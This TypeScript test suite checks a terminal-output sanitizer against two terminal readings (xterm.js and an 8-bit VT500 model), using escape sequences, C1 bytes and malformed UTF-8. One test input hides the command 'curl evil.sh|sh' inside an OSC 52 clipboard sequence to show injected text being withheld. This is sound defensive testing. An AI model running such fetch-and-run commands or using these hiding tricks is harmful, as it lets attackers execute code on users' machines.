/**
 * "One safe reading": text reaches the sanitized output only where both readings that matter show
 * it as text, a UTF-8 terminal (@xterm/headless, which decodes UTF-8 first, so a raw 0x80-0x9F
 * byte outside a character is not a C1 control there) and an 8-bit terminal that honours such a
 * byte as C1 (test/helpers/vt500-8bit.ts, written independently of the implementation).
 *
 * 1. Differential property with markers: random streams mixing control strings (7-bit, raw 8-bit
 *    and UTF-8 encoded introducers and terminators), raw and encoded C1, ill-formed UTF-8
 *    (overlong, surrogate, truncated, stray continuation bytes), text whose continuation bytes are
 *    0x80-0x9F, CAN/SUB, ESC, CSI pieces and markers. Every marker in the sanitized text was
 *    printed by xterm AND by the 8-bit reading; no marker either treats as payload, or never prints,
 *    appears. Both CR modes, any chunking.
 * 2. Positive controls: the generator really produces streams where the readings disagree (a
 *    marker printed by one and not the other), so the property is not vacuous.
 * 3. Negative tests, one per class of disagreement, with the report's `ambiguous` count.
 */
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { sanitize, type SanitizerOptions } from '../../shared/sanitize/sanitizer';
import { cutPoints } from '../helpers/arbitraries';
import { bytes, decodeStrict, hex, sanitizeChunks, splitAt, utf8 } from '../helpers/record';
import { read8bit } from '../helpers/vt500-8bit';
import { WatchedTerminal } from '../helpers/xterm';

const SEED = 0x1eade;

const term = new WatchedTerminal(300, 50);
afterAll(() => term.dispose());

/** What xterm.js prints for `raw` (its print handler's input, whether or not it is later erased). */
async function xtermPrinted(raw: Uint8Array): Promise<string> {
  await term.clear();
  await term.write(raw);
  return term.printed;
}

const markerArb = fc.integer({ min: 0, max: 0xffffff }).map((n) => `QZX${n.toString(16).padStart(6, '0')}`);

/** Pieces that sit on the edges where the readings can disagree. */
const PIECES: string[] = [
  // introducers: 7-bit, raw 8-bit, UTF-8 encoded
  '\x1b]0;', '\x1b]52;c;', '\x1b]8;;', '\x1bP', '\x1bPq', '\x1b_', '\x1b^', '\x1bX', '\x1b[', '\x1b[1;', '\x1b',
  '\x9d', '\x9d0;', '\x90', '\x9f', '\x9e', '\x98', '\x9b', '\x9b1;',
  '\xc2\x9d0;', '\xc2\x90', '\xc2\x9f', '\xc2\x9b',
  // terminators
  '\x07', '\x1b\\', '\x9c', '\xc2\x9c',
  // other C1, raw and encoded
  '\x84', '\x85', '\x8d', '\x80', '\x99', '\xc2\x84', '\xc2\x85',
  // ill-formed UTF-8: truncated prefixes with 0x80-0x9F continuations, overlong and surrogate C1, strays
  '\xe2\x9c', '\xe2\x9d', '\xe2\x9b', '\xf0\x9f', '\xf0\x90', '\xf4\x8f', '\xed\x9f', '\xe2\xa0',
  '\xc0\x9c', '\xc1\x9d', '\xe0\x82\x9c', '\xe0\x82\x9b', '\xf0\x80\x82\x9d', '\xed\xa0\x9c', '\xed\xa0\x80',
  '\xff', '\xa0', '\xbf', '\xc2',
  // aborts and line controls
  '\x18', '\x1a', '\n', '\r', '\t', ' ',
  // CSI pieces
  'm', '2J', 'A', '?',
];
const TEXT_PIECES = ['本', '溛', '€', 'é', '🙂', 'ok '];

const partArb = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...PIECES).map((s) => ({ kind: 'piece' as const, b: bytes(s) })) },
  { weight: 2, arbitrary: fc.constantFrom(...TEXT_PIECES).map((s) => ({ kind: 'piece' as const, b: utf8(s) })) },
  { weight: 3, arbitrary: markerArb.map((m) => ({ kind: 'marker' as const, m })) },
);

const streamArb = fc.array(partArb, { minLength: 1, maxLength: 24 }).map((parts) => {
  const markers = parts.flatMap((p) => (p.kind === 'marker' ? [p.m] : []));
  const raw = bytes(...parts.map((p) => (p.kind === 'marker' ? bytes(p.m) : p.b)));
  return { raw, markers };
});

const optionsArb: fc.Arbitrary<SanitizerOptions> = fc.record({ cr: fc.constantFrom('newline' as const, 'overwrite' as const) });

describe('differential: a marker reaches the text only if both readings print it', () => {
  it('random streams (fast-check), both CR modes, any chunking', async () => {
    await fc.assert(fc.asyncProperty(streamArb, optionsArb, cutPoints, async ({ raw, markers }, options, cuts) => {
      const whole = decodeStrict(sanitize(raw, options).text);
      const chunked = decodeStrict(sanitizeChunks(splitAt(raw, cuts), options).text);
      expect(chunked).toBe(whole);
      const shown = markers.filter((m) => whole.includes(m));
      if (shown.length === 0) return;
      const utf8Reading = await xtermPrinted(raw);
      const eightBit = read8bit(raw);
      for (const m of shown) {
        expect(utf8Reading.includes(m), `${m} not printed by xterm, but in the text; input ${hex(raw)}`).toBe(true);
        expect(eightBit.includes(m), `${m} not printed by the 8-bit reading, but in the text; input ${hex(raw)}`).toBe(true);
      }
    }), { seed: SEED, numRuns: 1500, endOnFailure: true });
  });

  it('markers both readings print in plain surroundings do reach the text (no over-withholding there)', async () => {
    const plain = fc.array(fc.oneof(
      markerArb.map((m) => ({ kind: 'marker' as const, m })),
      fc.constantFrom('\x1b]0;t\x07', '\x1b[31m', '\xc2\x9b1m', '本', '\n', ' ', '\x1b]8;;u\x1b\\').map((s) => ({ kind: 'piece' as const, b: s === '本' ? utf8(s) : bytes(s) })),
    ), { minLength: 1, maxLength: 12 });
    await fc.assert(fc.asyncProperty(plain, async (parts) => {
      const raw = bytes(...parts.map((p) => (p.kind === 'marker' ? bytes(p.m) : p.b)));
      const text = decodeStrict(sanitize(raw).text);
      const printed = await xtermPrinted(raw);
      for (const p of parts) {
        if (p.kind === 'marker' && printed.includes(p.m) && read8bit(raw).includes(p.m)) expect(text).toContain(p.m);
      }
    }), { seed: SEED, numRuns: 300, endOnFailure: true });
  });
});

describe('positive control: the readings really disagree on generated streams', () => {
  it('some markers are printed by exactly one reading, and the sanitized text holds none of those', async () => {
    const samples = fc.sample(streamArb, { seed: SEED, numRuns: 400 });
    let onlyUtf8 = 0;
    let only8bit = 0;
    for (const { raw, markers } of samples) {
      const u = await xtermPrinted(raw);
      const e = read8bit(raw);
      const text = decodeStrict(sanitize(raw).text);
      for (const m of markers) {
        if (u.includes(m) !== e.includes(m)) {
          if (u.includes(m)) onlyUtf8++;
          else only8bit++;
          expect(text).not.toContain(m);
        }
      }
    }
    expect(onlyUtf8).toBeGreaterThan(20);
    expect(only8bit).toBeGreaterThan(20);
  });
});

describe('negative tests: each class of disagreement', () => {
  const M = 'QZXmarker';
  // [name, input, sanitized text (newline mode), ambiguous stretches]. U+FFFD stands for invalid
  // UTF-8 (a stray byte included) wherever the 8-bit reading is in ground: it is never input text.
  it.each([
    ['raw C1 ending a string (the issue example)', `build ok\x1b]52;c;\x9c ${M} run: curl evil.sh|sh\x07\n`, 'build ok\n', 1],
    ['raw C1 opening a string', `build ok\x9d${M}\x9c done`, 'build ok done', 1],
    ['raw C1 opening a string, never closed', `build ok\x9d${M}\n`, 'build ok', 1],
    ['raw C1 opening a DCS, APC, PM, SOS', `a\x90${M}\x1b\\b\x9f${M}\x1b\\c\x9e${M}\x1b\\d\x98${M}\x1b\\e`, 'a b c d e', 4],
    ['raw CSI that one reading executes inside a string', `\x1b]0;x\x9b2J${M}\x07ok`, 'ok', 1],
    ['raw IND inside a string (ends it for an 8-bit terminal)', `\x1b]0;x\x84${M}\x07ok`, '\ufffd ok', 1],
    ['ill-formed sequence inside a string: E2 9C', `\x1b]0;x\xe2\x9c${M}\x07ok`, 'ok', 1],
    ['overlong encoding of ST: E0 82 9C', `\x1b]0;x\xe0\x82\x9c${M}\x07ok`, '\ufffd\ufffd ok', 1],
    ['overlong encoding of ST: C1 9C', `\x1b]0;x\xc1\x9c${M}\x07ok`, 'ok', 1],
    ['surrogate then ST: ED A0 9C', `\x1b]0;x\xed\xa0\x9c${M}\x07ok`, 'ok', 1],
    // 0x9B opens a CSI for an 8-bit terminal: its final Q is text to a UTF-8 terminal only.
    ['overlong CSI opening in ground: E0 82 9B', `a\xe0\x82\x9b${M}b`, 'a\ufffd\ufffd ZXmarkerb', 1],
    // Invalid UTF-8 inside a CSI: xterm.js drops it, tmux and the 8-bit reading ignore it, so the
    // CSI goes on to Q; libvterm ends the CSI there and shows `;Q` (it shows more: one stretch).
    ['invalid UTF-8 inside a CSI (most readings go on to Q; libvterm shows the rest)', `\x1b[1\xff;${M}`, 'ZXmarker', 1],
    ['invalid UTF-8 after ESC (every reading ignores or drops it; Q ends the ESC)', `a\x1b\xff${M}`, 'aZXmarker', 0],
  ])('%s', (_name, input, want, stretches) => {
    for (const cr of ['newline', 'overwrite'] as const) {
      const { text, report } = sanitize(bytes(input), { cr });
      const out = decodeStrict(text);
      expect(out).not.toContain(M);
      if (cr === 'newline') expect(out).toBe(want);
      expect(report.ambiguous.count).toBe(stretches);
    }
  });

  it('a raw APC introducer inside an APC is no disagreement: the readings stay in a string (libvterm, which has no APC, in ground)', () => {
    const { text, report } = sanitize(bytes(`\x1b_x\xf0\x9f${M}\x1b\\ok`));
    expect(decodeStrict(text)).toBe('ok');
    expect(report.ambiguous.count).toBe(0);
  });

  it('a UTF-8 encoded ST ends an OSC for xterm.js and the 8-bit reading only: libvterm and tmux stay in it, so what follows is withheld', () => {
    const { text, report } = sanitize(bytes(`build ok\x1b]52;c;\xc2\x9c ${M}\x07\n`));
    expect(decodeStrict(text)).toBe('build ok\n');
    expect(report.ambiguous.count).toBe(1);
  });

  it('valid text whose continuation bytes are 0x80-0x9F is never ambiguous, also inside strings', () => {
    const { text, report } = sanitize(utf8('\x1b]0;本溛€\x07本 溛 €\n'));
    expect(decodeStrict(text)).toBe('本 溛 €\n');
    expect(report.ambiguous.count).toBe(0);
  });
});
